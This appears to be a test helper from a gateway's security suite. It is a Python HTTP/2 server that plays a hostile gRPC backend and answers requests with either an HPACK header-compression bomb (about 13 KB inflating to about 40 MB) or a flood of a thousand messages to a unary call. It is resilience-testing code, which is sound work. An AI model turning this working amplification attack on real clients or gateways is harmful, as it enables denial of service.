#!/usr/bin/python3
"""Fake gRPC backends that attack the gateway from behind, for attacks.py.

A raw HTTP/2 server (python3-h2, every validation off) that reads each
request whole and answers it the one hostile way --mode says:

  hpack_bomb      response headers whose block inserts one header of
                  --value-size bytes (4,000: name + value + 32 must fit the
                  peer's 4,096-byte HPACK table) into the dynamic table and
                  then references it --refs times; an indexed field is one
                  byte, so ~13 KB on the wire (one HEADERS frame) inflate to
                  refs x value-size (40 MB at 10,000). Then one valid
                  SimpleResponse and grpc-status 0.
  many_messages   --messages valid SimpleResponse messages of --message-size
                  payload bytes each (1,000 x 16 KiB) and grpc-status 0: a
                  unary method answered with a thousand messages. Sent
                  within the peer's flow-control windows.

  attack_backend.py --port=N --mode=MODE [--refs=10000] [--value-size=4000]
                    [--messages=1000] [--message-size=16384]

Prints "listening on PORT" once serving and one line per answered request;
SIGTERM stops it.
"""

import argparse
import signal
import socket
import struct
import sys
import threading

import h2.config
import h2.connection
import h2.events
import h2.exceptions

MODES = ("hpack_bomb", "many_messages")


def log(msg):
    print(msg, flush=True)


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def simple_response(size):
    """grpc.testing.SimpleResponse{payload: Payload{body: size zero bytes}}, written out."""
    body = b"\x12" + varint(size) + b"\x00" * size  # Payload.body (field 2)
    return b"\x0a" + varint(len(body)) + body  # SimpleResponse.payload (field 1)


def grpc_frame(msg):
    return struct.pack(">BI", 0, len(msg)) + msg


class Conn:
    """One connection: answers every request once its END_STREAM arrives."""

    def __init__(self, sock, args):
        self.sock = sock
        self.args = args
        cfg = h2.config.H2Configuration(client_side=False, header_encoding=None,
                                        validate_outbound_headers=False,
                                        normalize_outbound_headers=False,
                                        validate_inbound_headers=False)
        self.h2 = h2.connection.H2Connection(config=cfg)
        self.pending = {}  # stream id -> [bytes still to send, trailers]
        self.answered = 0

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.sock.sendall(data)

    def answer(self, sid):
        a = self.args
        self.h2.send_headers(sid, [(b":status", b"200"), (b"content-type", b"application/grpc")]
                             + ([(b"x-bomb", b"b" * a.value_size)] * a.refs if a.mode == "hpack_bomb" else []))
        n = 1 if a.mode == "hpack_bomb" else a.messages
        size = 16 if a.mode == "hpack_bomb" else a.message_size
        body = grpc_frame(simple_response(size)) * n
        self.pending[sid] = [memoryview(body), [(b"grpc-status", b"0")]]
        self.answered += 1
        log(f"answered stream {sid} ({a.mode}, {len(body)} body bytes)")
        self.push()

    def push(self):
        """Sends what the windows allow; trailers once a stream's body is out."""
        for sid in list(self.pending):
            body, trailers = self.pending[sid]
            try:
                while body:
                    room = min(self.h2.local_flow_control_window(sid), self.h2.max_outbound_frame_size,
                               len(body))
                    if room <= 0:
                        break
                    self.h2.send_data(sid, body[:room].tobytes())
                    body = body[room:]
                    self.flush()
                self.pending[sid][0] = body
                if not body:
                    self.h2.send_headers(sid, trailers, end_stream=True)
                    del self.pending[sid]
            except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError, KeyError):
                self.pending.pop(sid, None)  # the gateway gave up on this stream: fine
        self.flush()

    def serve(self):
        self.h2.initiate_connection()
        self.flush()
        try:
            while True:
                data = self.sock.recv(65536)
                if not data:
                    return
                for ev in self.h2.receive_data(data):
                    if isinstance(ev, h2.events.DataReceived) and ev.flow_controlled_length:
                        self.h2.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    if isinstance(ev, h2.events.StreamEnded):
                        self.answer(ev.stream_id)
                    elif isinstance(ev, h2.events.StreamReset):
                        self.pending.pop(ev.stream_id, None)
                self.push()
        except (OSError, h2.exceptions.ProtocolError) as err:
            log(f"connection ended: {err!r}")
        finally:
            self.sock.close()


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=MODES, required=True)
    ap.add_argument("--refs", type=int, default=10000)
    ap.add_argument("--value-size", type=int, default=4000)
    ap.add_argument("--messages", type=int, default=1000)
    ap.add_argument("--message-size", type=int, default=16384)
    args = ap.parse_args(argv)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.bind(("127.0.0.1", args.port))  # no SO_REUSEADDR: a port clash fails the bind
    ls.listen(128)
    log(f"listening on {ls.getsockname()[1]}")
    while True:
        sock, _ = ls.accept()
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        threading.Thread(target=Conn(sock, args).serve, daemon=True).start()


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
